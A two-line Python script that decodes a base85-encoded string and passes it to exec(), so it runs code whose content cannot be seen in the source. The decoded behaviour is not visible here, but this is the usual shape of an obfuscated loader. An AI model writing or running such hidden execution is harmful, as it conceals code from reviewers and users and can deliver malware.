import base64
exec(base64.b85decode('X>D+Ca&#bXb31QyE^~QvbY*QQB4c%OY#=RjAZT=SaC15@FJokGEqFIBX>N95Y-waKVIX`UVqtS=A}I'))
